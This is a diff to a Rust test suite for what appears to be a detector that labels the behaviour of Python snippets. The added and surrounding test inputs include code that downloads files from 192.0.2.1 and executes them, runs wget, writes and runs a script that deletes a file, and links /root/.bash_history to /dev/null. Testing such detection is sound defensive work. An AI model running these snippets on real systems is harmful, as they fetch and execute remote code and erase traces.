@@ -3,6 +3,7 @@
 use super::{check, check_among};
 
 #[test]
+#[allow(clippy::too_many_lines, reason = "a table")]
 fn reverse_shells() {
     check_among(&[
         (
@@ -114,6 +115,7 @@ fn reverse_shells() {
 }
 
 #[test]
+#[allow(clippy::too_many_lines, reason = "a table")]
 fn downloads() {
     check_among(&[
         (
@@ -240,7 +242,7 @@ fn system_calls() {
         ),
         (
             "import os\nos.symlink('/dev/null', '/root/.bash_history')",
-            &["write {content of /dev/null}>/root/.bash_history"],
+            &[],
         ),
         (
             "open('/proc/sys/vm/nr_hugepages','w').write('128')",
@@ -295,6 +297,7 @@ fn persistence() {
 }
 
 #[test]
+#[allow(clippy::too_many_lines, reason = "a table")]
 fn programs_started() {
     check_among(&[
         ("import os\nos.system('id')", &["evaluate shell: id"]),
@@ -431,4 +434,33 @@ fn programs_started() {
             &["evaluate shell: wget http://192.0.2.1/y"],
         ),
     ]);
+}
+
+#[test]
+fn content_is_followed_through_files() {
+    check_among(&[
+        (
+            "import urllib.request as u, shutil, os\nu.urlretrieve('http://192.0.2.1/a', '/tmp/a')\nshutil.move('/tmp/a', '/usr/bin/b')\nos.execv('/usr/bin/b', ['b'])",
+            &["fetch http://192.0.2.1/a to /tmp/a", "execute /usr/bin/b"],
+        ),
+        (
+            "import requests, tarfile, io, os\nr = requests.get('http://192.0.2.1/a.tgz')\ntarfile.open(fileobj=io.BytesIO(r.content)).extractall('/opt/x')\nos.execv('/opt/x/run', ['run'])",
+            &["fetch http://192.0.2.1/a.tgz", "execute /opt/x/run"],
+        ),
+        (
+            "open('/tmp/p.py', 'w').write('import os; os.remove(\\'/a\\')')\nexecfile('/tmp/p.py')",
+            &["write import os", "evaluate Python: import os", "delete /a"],
+        ),
+        (
+            "import zlib\nd = zlib.decompressobj()\nexec(d.decompress(b'x'))",
+            &["evaluate Python: {?}"],
+        ),
+    ]);
+    let script = "import urllib.request as u, shutil, os\nu.urlretrieve('http://192.0.2.1/a', '/tmp/a')\nshutil.move('/tmp/a', '/usr/bin/b')\nos.execv('/usr/bin/b', ['b'])";
+    let lowered = super::lowered(script);
+    let from = lowered.acts.iter().find_map(|act| match &act.behavior {
+        model::Behavior::Execute { program, .. } => program.fetched_from(),
+        _ => None,
+    });
+    assert_eq!(from, Some("http://192.0.2.1/a"));
 }
